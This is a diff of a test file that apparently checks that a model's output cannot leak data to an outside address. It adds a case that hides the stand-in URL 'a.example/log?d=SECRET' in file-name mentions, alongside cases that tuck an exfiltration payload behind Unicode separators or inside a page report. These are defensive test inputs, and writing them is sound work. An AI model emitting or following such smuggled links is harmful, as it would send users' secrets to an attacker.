@@ -173,7 +173,14 @@ describe('what the model wrote makes no address known', () => {
     expect(s.calls.at(-1)?.sends).toBe('/log?d=SECRET')
   })
   it.each([
-    ['behind a separator of Unicode in what the person quotes', `> see\u2028${evil}\n> and\u2029${evil}\n\nIs this right?`],
+    [
+      'behind a separator of Unicode in what the person quotes',
+      `> see\u2028${evil}\n> and\u2029${evil}\n\nIs this right?`,
+    ],
+    [
+      'in the name of a file that the person mentions',
+      'Read @"my a.example/log?d=SECRET", and @b,a.example/log?d=SECRET',
+    ],
     [
       'in the report of a page that was put behind other words',
       `Mend this.\n\n${reportOf('a.html', [{ level: 'log', text: evil }])}`,
